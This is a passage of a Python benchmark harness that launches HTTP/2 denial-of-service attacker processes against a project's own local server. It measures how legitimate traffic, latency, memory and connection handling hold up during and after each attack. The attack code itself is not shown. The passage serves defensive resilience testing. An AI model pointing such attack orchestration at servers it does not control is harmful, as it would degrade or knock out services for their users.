                    into[k] = into.get(k, 0) + v
            elif isinstance(value, list):
                total.setdefault(key, []).extend(value)
            elif key == "late_s":
                total[key] = max(total.get(key, 0), value)
            else:
                total[key] = total.get(key, 0) + value
    return total


def pin(pid: int, cpus: set[int]) -> None:
    """Every thread of `pid` onto `cpus` (threads it starts later inherit it)."""
    for task in os.listdir(f"/proc/{pid}/task"):
        with contextlib.suppress(OSError):
            os.sched_setaffinity(int(task), cpus)


def renice(pid: int, nice: int) -> bool:
    """Every thread of `pid` to niceness `nice` (inherited the same way); False where
    that is not permitted (raising priority takes CAP_SYS_NICE)."""
    done = True
    for task in os.listdir(f"/proc/{pid}/task"):
        try:
            os.setpriority(os.PRIO_PROCESS, int(task), nice)
        except PermissionError:
            done = False
        except OSError:
            pass
    return done


def group_nice(nice: int | None) -> int | None:
    """With CFS autogroups (one per session), niceness only orders tasks within their
    group: our session's group (this client and the server it started) is reniced to
    `nice` so that it goes ahead of the attackers (sessions of their own) and of
    anything else on the machine. The value it had; None where there are no autogroups
    or no permission."""
    path = Path("/proc/self/autogroup")
    try:
        before = int(path.read_text().split("nice")[1])
        if nice is not None:
            path.write_text(str(nice))
        return before
    except (OSError, ValueError, IndexError):
        return None


def cpu_split() -> tuple[set[int], set[int]] | None:
    """(the server's CPUs, the client's and attackers' CPUs), or None with one CPU."""
    cpus = sorted(os.sched_getaffinity(0))
    return ({cpus[0]}, set(cpus[1:])) if len(cpus) > 1 else None


def config(inline: bool = False) -> dict:
    backend = {"type": "local", "model": "coalesce.example_model:load"}
    if inline:  # called on the event loop, not in the thread pool
        backend["inline"] = True
    return {"backends": {MODEL: backend}, "routes": [{"model": MODEL, "backend": MODEL}]}


@contextlib.contextmanager
def serve(
    tmp: Path, inline: bool = False, tls: dict | None = None
) -> Iterator[tuple[Process, int]]:
    """`coalesce serve` with our HTTP/2 listener on a free port: (process, that port). The
    listener is `fast_listen` where the config has it, else `listen` (which it became);
    `tls`: its `tls:` block."""
    from coalesce.config import Config

    port = free_port()
    key = "fast_listen" if "fast_listen" in Config.model_fields else "listen"
    data = {key: f"127.0.0.1:{port}", "admin": None, **config(inline)}
    if tls:
        data["tls"] = tls
    process = Process(data, tmp, ("--log-level", "WARNING"))
    try:
        yield process, port
    finally:
        process.terminate()


def legit_body() -> bytes:
    """A ModelInfer request to the example model: what the attackers send as a body."""
    import numpy as np

    from benchmarks.run import infer_request

    return infer_request(MODEL, np.array([[5.1, 3.5, 1.4, 0.2]], dtype=np.float32))


def machine_busy() -> float:
    """CPU seconds the whole machine has been busy (every process, the kernel's too)."""
    fields = [int(f) for f in Path("/proc/stat").read_text().split("\n", 1)[0].split()[1:]]
    return (sum(fields[:8]) - fields[3] - fields[4]) / os.sysconf("SC_CLK_TCK")


def wait_quiet(most_s: float, below: float = QUIET_CORES) -> float:
    """Up to `most_s` seconds until the rest of the machine keeps less than `below`
    cores busy for a second (this is a shared machine); that load, as last measured."""
    end = time.monotonic() + most_s
    while True:
        busy, start = machine_busy(), time.monotonic()
        time.sleep(1.0)
        load = (machine_busy() - busy) / (time.monotonic() - start)
        if load < below or time.monotonic() >= end:
            return load


def sleep_until(when: float) -> None:
    while (left := when - time.monotonic()) > 0:
        time.sleep(min(left, 0.5))


def run_attack(name: str, opts, tmp: Path) -> dict:
    """One attack against a fresh server: baseline, attack, recovery."""
    attack = ATTACKS[name]
    duration = opts.duration
    body_file = tmp / "attack-body.bin"
    body_file.write_bytes(legit_body())
    split = cpu_split() if opts.pin else None
    quiet = wait_quiet(opts.quiet_wait) if opts.quiet_wait > 0 else float("nan")
    tls, ca = None, ""
    if opts.tls:  # a throwaway CA and server certificate (localhost, 127.0.0.1)
        from tests.support.certs import PKI

        pki = PKI(tmp, f"attacks-{name}")
        tls, ca = pki.tls(), str(pki.ca.path)
    with serve(tmp, opts.inline, tls) as (proxy, port):
        pid = proxy.proc.pid
        if split is not None:
            pin(pid, split[0])
        boosted = renice(pid, opts.boost) if opts.boost else False
        url = f"127.0.0.1:{port}"
        monitor = Monitor(url, port, pid, opts.legit_concurrency, ca, opts.legit_rate)
        monitor.start()
        time.sleep(opts.warmup)
        b0 = time.monotonic()
        s0, m0, c0 = cpu_seconds(pid), machine_busy(), os.times()
        time.sleep(duration)
        b1 = time.monotonic()
        s1, m1, c1 = cpu_seconds(pid), machine_busy(), os.times()
        start = b1 + SPAWN_LEAD_S
        stop = start + duration
        procs = []
        attacker_cpus = (
            ""
            if split is None
            else ",".join(map(str, sorted(split[0] if opts.beside_server else split[1])))
        )
        for index in range(attack.processes):
            err = (tmp / f"attacker-{name}-{index}.log").open("wb")
            procs.append(
                (
                    subprocess.Popen(
                        [
                            sys.executable,
                            "-m",
                            "benchmarks.attacks",
                            "--attacker",
                            name,
                            "--port",
                            str(port),
                            "--start",
                            repr(start),
                            "--stop",
                            repr(stop),
                            "--index",
                            str(index),
                            "--nice",
                            str(opts.nice),
                            "--body",
                            str(body_file),
                            "--cpus",
                            attacker_cpus,
                            "--tls-ca",
                            ca,
                        ],
                        cwd=ROOT,
                        env={**os.environ, "PYTHONPATH": str(ROOT)},
                        stdout=subprocess.PIPE,
                        stderr=err,
                        start_new_session=True,
                    ),
                    err,
                )
            )
        sleep_until(start)
        s2, m2, c2 = cpu_seconds(pid), machine_busy(), os.times()
        sleep_until(stop)
        s3, m3, c3 = cpu_seconds(pid), machine_busy(), os.times()
        results, problems = [], []
        for index, (proc, err) in enumerate(procs):
            try:
                out, _ = proc.communicate(
                    timeout=max(stop + ATTACKER_GRACE_S - time.monotonic(), 1)
                )
            except subprocess.TimeoutExpired:
                proc.kill()
                out, _ = proc.communicate()
                problems.append(f"attacker {index} did not stop by itself: killed")
            err.close()
            try:
                results.append(json.loads(out.decode().strip().splitlines()[-1]))
            except (IndexError, ValueError):
                tail = (tmp / f"attacker-{name}-{index}.log").read_text(errors="replace")[-800:]
                problems.append(f"attacker {index} exited {proc.returncode}: {tail}")
        a_end = time.monotonic()
        time.sleep(opts.recovery)
        r_end = time.monotonic()
        alive = proxy.proc.poll() is None
        monitor.stop()
        log = proxy.output()
    base, during = phase(monitor, b0, b1), phase(monitor, start, stop)
    recovery = phase(monitor, a_end, r_end)
    stats = merge(results)  # its "errors": what an attacker met (refused connects...)
    rss_base = median(monitor.rss_in(b0, b1))
    rss_max = max(monitor.rss_in(start, a_end), default=float("nan"))
    rss_after = median(monitor.rss_in(r_end - 1.0, r_end))
    accept = stats.pop("accept_ms", [])
    row = {
        "scenario": "attacks",
        "target": f"legit during {name}",
        "attack": name,
        "tls": bool(opts.tls),
        "concurrency": opts.legit_concurrency,
        "legit_rate": opts.legit_rate,  # calls/s, paced; 0: a closed loop
        "duration_s": duration,
        "attacker_processes": attack.processes,
        "attacker_connections_at_a_time": attack.processes * attack.conns,
        "model_inline": opts.inline,
        "attacker_nice": opts.nice,
        "server_and_client_nice": opts.boost if boosted else 0,
        "baseline": base,
        "during": during,
        "recovery": recovery,
        "throughput_rps": during["rps"],
        "baseline_rps": base["rps"],
        "x_baseline_rps": during["rps"] / max(base["rps"], 1e-9),
        "p50_ms": during["p50_ms"],
        "p90_ms": during["p90_ms"],
        "p99_ms": during["p99_ms"],
        "max_ms": during["max_ms"],
        "baseline_p99_ms": base["p99_ms"],
        "x_baseline_p99": during["p99_ms"] / base["p99_ms"] if base["p99_ms"] > 0 else float("nan"),
        "ping_baseline_max_ms": base["ping_max_ms"],
        "ping_max_ms": during["ping_max_ms"],
        "rss_baseline_mib": rss_base,
        "rss_max_mib": rss_max,
        "rss_after_mib": rss_after,
        "rss_mib": rss_max,
        "server_cpu_us_per_req": (s3 - s2) / max(during["calls"], 1) * 1e6,
        "x_baseline_cpu": ((s3 - s2) / max(during["calls"], 1))
        / max((s1 - s0) / max(base["calls"], 1), 1e-12),
        "server_cpu_baseline": (s1 - s0) / (b1 - b0),  # cores busy
        "server_cpu_during": (s3 - s2) / (stop - start),
        "loadgen_cpu_us_per_req": _cpu(c2, c3) / max(during["calls"], 1) * 1e6,
        "client_cpu_baseline": _cpu(c0, c1) / (b1 - b0),  # cores: client, prober, sampler
        "client_cpu_during": _cpu(c2, c3) / (stop - start),
        # what else kept the machine busy (the kernel's network work included): noise
        "other_cpu_before": quiet,
        "other_cpu_baseline": (m1 - m0 - (s1 - s0) - _cpu(c0, c1)) / (b1 - b0),
        "other_cpu_during": (m3 - m2 - (s3 - s2) - _cpu(c2, c3) - stats.get("attack_cpu_s", 0.0))
        / (stop - start),
        "mismatches": base["wrong"] + during["wrong"] + recovery["wrong"],
        "errors": [f"{n}x {e}" for e, n in monitor.errors.most_common(5)],
        "ping_errors": dict(monitor.ping_errors),
        "attacker": stats,
        "server_alive": alive,
        "server_log_warnings": sum(1 for line in log.splitlines() if "WARNING" in line),
        "server_log_errors": [
            line for line in log.splitlines() if "ERROR" in line or "Traceback" in line
        ][:5],
        "problems": problems,
        "repeats": 1,
    }
    if accept:
        row["accept"] = {
            "connections": len(accept),
            "p50_ms": pct(accept, 50),
            "p99_ms": pct(accept, 99),
            "max_ms": max(accept),
        }
        if attack.conns > 16:  # connections held open: what each costs
            row["accept"]["rss_kib_per_connection"] = (rss_max - rss_base) * 1024 / len(accept)
    row["checks"] = checks = {
        "throughput": row["x_baseline_rps"] >= MIN_THROUGHPUT,
        "no_errors": during["errors"] == 0 and during["wrong"] == 0,
        "p99": row["x_baseline_p99"] <= MAX_P99,
        "ping": during["ping_max_ms"] <= MAX_PING_MS,
        "rss_max": rss_max <= rss_base + MAX_RSS_GROWTH_MIB,
        "rss_after": abs(rss_after - rss_base) <= MAX_RSS_AFTER * rss_base,
        "server_alive": alive,
        "attacker_ran": not problems and bool(results),
    }
    row["failed"] = [k for k, ok in checks.items() if not ok]
    row["pass"] = not row["failed"]
    row["noisy"] = max(row["other_cpu_baseline"], row["other_cpu_during"]) > QUIET_CORES
    return row


def _cpu(a, b) -> float:
    return (b.user - a.user) + (b.system - a.system)


def _f(value: float, digits: int = 0) -> str:
    return "—" if value != value else f"{value:,.{digits}f}"


def _goaways(stats: dict) -> str:
    codes = stats.get("goaway", {})
    ranked = sorted(codes.items(), key=lambda item: -item[1])
    text = ", ".join(f"{SHORT.get(k, k)} {v}" for k, v in ranked)
    closed = stats.get("closed_by_goaway", 0)
    return f"{closed}/{stats.get('connections', 0)} ({text or 'none'})"


HEADER = (
    "| attack | legit calls/s base → during (ratio) | p99 ms base → during (ratio) | "
    "calls/s, p99 vs control | PING RTT max ms base → during | RSS MiB base / max / after | "
    "attacker conns closed by GOAWAY (codes) | result |\n|---|---|---|---|---|---|---|---|"
)


def format_row(row: dict) -> str:
    result = "pass" if row["pass"] else "**FAIL**: " + ", ".join(row["failed"])
    d = row["during"]
    if d["errors"] or d["wrong"]:
        result += f" ({d['errors']} errors, {d['wrong']} wrong)"
    if row.get("noisy"):
        result += (
            f" (noisy: other load {row['other_cpu_baseline']:.1f} → "
            f"{row['other_cpu_during']:.1f} cores)"
        )
    return (
        f"| {row['attack']}{' (TLS)' if row.get('tls') else ''} | "
        f"{_f(row['baseline_rps'])} → {_f(row['throughput_rps'])} "
        f"({row['x_baseline_rps']:.2f}x) | {_f(row['baseline_p99_ms'], 2)} → "
        f"{_f(row['p99_ms'], 2)} ({row['x_baseline_p99']:.2f}x) | {_control(row)} | "
        f"{_f(row['ping_baseline_max_ms'], 1)} → {_f(row['ping_max_ms'], 1)} | "
        f"{_f(row['rss_baseline_mib'])} / {_f(row['rss_max_mib'])} / "
        f"{_f(row['rss_after_mib'])} | {_goaways(row['attacker'])} | {result} |"
    )


def notes(rows: list[dict]) -> str:
    """A line per attack of what the attacker did and anything that went wrong."""
    lines = []
    for row in rows:
        s = row["attacker"]
        parts = [
            f"{s.get('bytes_sent', 0) / 2**20:,.1f} MiB sent",
            f"{s.get('answers', 0)} answers",
            f"server CPU {row['server_cpu_baseline']:.2f} → {row['server_cpu_during']:.2f} cores",
            f"attackers' CPU {s.get('attack_cpu_s', 0) / row['duration_s']:.2f} cores",
            f"other load {row['other_cpu_baseline']:.2f} → {row['other_cpu_during']:.2f} cores",
        ]
        if s.get("rst_received"):
            parts.append(
                "RST_STREAM received: "
                + ", ".join(f"{SHORT.get(k, k)} {v}" for k, v in s["rst_received"].items())
            )
        for key in ("closed_without_goaway", "stalled", "open_at_end", "connect_errors"):
            if s.get(key):
                parts.append(f"{key.replace('_', ' ')} {s[key]}")
        if "body_bytes_unfinished" in s:
            parts.append(
                f"unfinished bodies accepted {s['body_bytes_unfinished'] / 2**20:,.0f} MiB"
            )
        if "accept" in row:
            a = row["accept"]
            text = (
                f"{a['connections']} connections, the server's SETTINGS after p50 "
                f"{a['p50_ms']:.1f} / p99 {a['p99_ms']:.1f} / max {a['max_ms']:.1f} ms"
            )
            if "rss_kib_per_connection" in a:
                text += f", {a['rss_kib_per_connection']:.0f} KiB of RSS each"
            parts.append(text)
        if s.get("late_s", 0) > 0.5:
            parts.append(f"attacker started {s['late_s']:.1f} s late")
        parts += [f"legit: {e}" for e in row["errors"][:2]]
        parts += [f"problem: {p[:200]}" for p in row["problems"][:3]]
        parts += [f"attacker: {e[:120]}" for e in s.get("errors", [])[:2]]
        parts += [f"server log: {line[:200]}" for line in row["server_log_errors"][:2]]
        if not row["server_alive"]:
            parts.append("THE SERVER DIED")
        lines.append(f"- {row['attack']}: " + "; ".join(parts))
    return "\n".join(lines)


def run_attacks(opts, tmp: Path, on_row=None) -> list[dict]:
    names = opts.attacks.split(",") if opts.attacks else list(ATTACKS)
    unknown = [n for n in names if n not in ATTACKS]
    if unknown:
        raise SystemExit(f"unknown attacks {unknown}; known: {', '.join(ATTACKS)}")
    split = cpu_split() if opts.pin else None
    before, nice = os.sched_getaffinity(0), os.getpriority(os.PRIO_PROCESS, 0)
    if split is not None:  # this process (client, prober) beside the attackers, not the server
        pin(os.getpid(), split[1])
    group = group_nice(opts.boost) if opts.boost else None
    if opts.boost and not renice(os.getpid(), opts.boost):
        print(f"(no permission for niceness {opts.boost}: the client runs at {nice})", flush=True)
    rows = []
    try:
        for name in names:
            row = run_attack(name, opts, tmp)
            row["cpus"] = (
                {"server": sorted(split[0]), "client_and_attackers": sorted(split[1])}
                if split
                else None
            )
            rows.append(row)
            if on_row is not None:
                on_row(row)
    finally:
        if split is not None:
            pin(os.getpid(), before)
        against_control(rows)
        if opts.boost:
            renice(os.getpid(), nice)
        if group is not None:
            group_nice(group)
    return rows


def against_control(rows: list[dict]) -> None:
    """Each attack's ratios over those of the control (control-net, else control-cpu):
    what is left once the setup's own cost is taken out."""
    by_name = {r["attack"]: r for r in rows}
    control = by_name.get("control-net") or by_name.get("control-cpu")
    if control is None:
        return
    for row in rows:
        row["vs_control"] = {
            "control": control["attack"],
            "throughput": row["x_baseline_rps"] / max(control["x_baseline_rps"], 1e-9),
            "p99": row["x_baseline_p99"] / control["x_baseline_p99"],
        }


def _control(row: dict) -> str:
    vs = row.get("vs_control")
    if vs is None or row["attack"] == vs["control"]:
        return "—"
    return f"{vs['throughput']:.2f}x / {vs['p99']:.2f}x"


def table(rows: list[dict], opts) -> str:
    return (
        f"Attacks on our HTTP/2 server: {opts.duration:g} s baseline, {opts.duration:g} s attack, "
        f"{opts.recovery:g} s recovery each; legit client c={opts.legit_concurrency} "
        + (f"paced at {opts.legit_rate:g} calls/s " if opts.legit_rate > 0 else "closed loop ")
        + "(tritonclient.grpc), attackers at "
        + ("SCHED_IDLE" if opts.nice == "idle" else f"nice {opts.nice}")
        + (
            ", the server pinned to one CPU, client and attackers to the other(s)"
            if opts.pin and cpu_split()
            else ""
        )
        + (f", server and client at nice {opts.boost}" if opts.boost else "")
        + ".\n\n"
        + HEADER
        + "\n"
        + "\n".join(map(format_row, rows))
        + "\n\n"
        + notes(rows)
        + "\n"
    )


def _defaults(args) -> argparse.Namespace:
    """Our options, from benchmarks.run's args (which lack the ones only we have)."""
    return argparse.Namespace(
        duration=args.duration,
        warmup=getattr(args, "warmup", 1.0),
        recovery=getattr(args, "recovery", 3.0),
        attacks=getattr(args, "attacks", None),
        nice=getattr(args, "nice", "0"),
        boost=getattr(args, "boost", -10),
        legit_concurrency=getattr(args, "legit_concurrency", 2),
        legit_rate=getattr(args, "legit_rate", LEGIT_RATE),
        inline=getattr(args, "inline", False),
        quiet_wait=getattr(args, "quiet_wait", 20.0),
        pin=getattr(args, "pin", True),
        beside_server=getattr(args, "beside_server", False),
        tls=getattr(args, "tls", False),
    )


def scenario_attacks(args, tmp: Path) -> list[dict]:
    """benchmarks.run's scenario: its rows carry its table's columns too."""
    from benchmarks import run

    opts = _defaults(args)
    rows = run_attacks(opts, tmp, on_row=lambda row: print(run.format_row(row), flush=True))
    print("\n" + table(rows, opts), flush=True)
    return rows


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawTextHelpFormatter
    )
    parser.add_argument(
        "--duration", type=float, default=10.0, help="seconds of baseline, and of attack"
    )
    parser.add_argument("--warmup", type=float, default=1.0)
    parser.add_argument("--recovery", type=float, default=3.0)
    parser.add_argument("--attacks", help=f"comma-separated, of: {', '.join(ATTACKS)}")
    parser.add_argument(
        "--nice",
        default="0",
        help="the attacker processes' priority: a niceness (default 0), or "
        "idle (SCHED_IDLE: only what nothing else wants)",
    )
    parser.add_argument(
        "--boost",
        type=int,
        default=-10,
        help="the niceness of the server and of this client (default -10: "
        "ahead of the attackers and of whatever else shares the machine; "
        "0 leaves them be)",
    )
    parser.add_argument(
        "--quiet-wait",
        type=float,
        default=20.0,
        help="before each attack, wait up to this long for the rest of the "
        f"machine to use under {QUIET_CORES} cores (0: do not wait)",
    )
    parser.add_argument(
        "--no-pin",
        dest="pin",
        action="store_false",
        help="leave CPU placement to the scheduler (default: the server on "
        "one CPU, this client and the attackers on the others)",
    )
    parser.add_argument("--legit-concurrency", type=int, default=2)
    parser.add_argument(
        "--legit-rate",
        type=float,
        default=LEGIT_RATE,
        help=f"the well-behaved client's calls/s, paced over its connections' threads "
        f"(default {LEGIT_RATE:g}; 0: a closed loop, as fast as it gets answers)",
    )
    parser.add_argument(
        "--inline",
        action="store_true",
        help="the model called on the server's event loop (`inline: true`), not in its thread pool",
    )
    parser.add_argument(
        "--beside-server",
        action="store_true",
        help="run the attackers on the server's CPU instead of the client's",
    )
    parser.add_argument(
        "--tls",
        action="store_true",
        help="attack the TLS listener (a throwaway certificate; the client, "
        "the prober and every attacker speak TLS, ALPN h2)",
    )
    # one attacker process (started by run_attack)
    parser.add_argument("--attacker", help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    parser.add_argument("--start", type=float, help=argparse.SUPPRESS)
    parser.add_argument("--stop", type=float, help=argparse.SUPPRESS)
    parser.add_argument("--index", type=int, default=0, help=argparse.SUPPRESS)
    parser.add_argument("--body", help=argparse.SUPPRESS)
    parser.add_argument("--cpus", default="", help=argparse.SUPPRESS)
    parser.add_argument("--tls-ca", default="", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.attacker:
        return attacker_main(args)
    from benchmarks.run import RESULTS

    def progress(row: dict) -> None:
        print(format_row(row), flush=True)

    print(HEADER, flush=True)
    with tempfile.TemporaryDirectory(prefix="coalesce-attacks-") as tmp:
        rows = run_attacks(args, Path(tmp), on_row=progress)
    text = table(rows, args)
    print("\n" + text, flush=True)
    RESULTS.mkdir(parents=True, exist_ok=True)
    stamp = time.strftime("%Y%m%d-%H%M%S")
    out = RESULTS / f"attacks-{'tls-' if args.tls else ''}{stamp}"
    options = {
        k: v
        for k, v in vars(args).items()
        if k not in ("attacker", "port", "start", "stop", "index", "body", "tls_ca")
    }
    out.with_suffix(".json").write_text(json.dumps({"args": options, "rows": rows}, indent=1))
    out.with_suffix(".md").write_text(text)
    print(f"wrote {out}.json and .md")
    return 0 if all(r["pass"] and not r["mismatches"] for r in rows) else 1


if __name__ == "__main__":
    sys.exit(main())
